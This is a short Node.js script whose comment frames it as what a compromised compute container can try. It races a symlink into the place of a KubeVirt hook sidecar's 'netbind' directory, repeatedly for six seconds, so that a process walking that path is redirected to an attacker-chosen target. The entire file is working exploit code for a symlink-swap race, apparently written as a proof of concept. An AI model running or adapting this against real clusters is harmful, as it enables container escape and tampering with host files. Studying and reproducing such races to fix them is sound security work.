/** What a compute container can try: to swap a sidecar's directory for a link, again and again, while somebody goes through it. */
import { renameSync, symlinkSync, writeFileSync } from "node:fs";

const HOOKS = "/var/run/kubevirt-hooks";
const [target = ""] = process.argv.slice(2);
const own = `${HOOKS}/hook-sidecar-0/netbind`;
symlinkSync(target, `${HOOKS}/link`);
writeFileSync(`${HOOKS}/swapping`, "");
for (const end = performance.now() + 6000; performance.now() < end; ) {
  renameSync(own, `${HOOKS}/aside`);
  renameSync(`${HOOKS}/link`, own);
  renameSync(own, `${HOOKS}/link`);
  renameSync(`${HOOKS}/aside`, own);
}
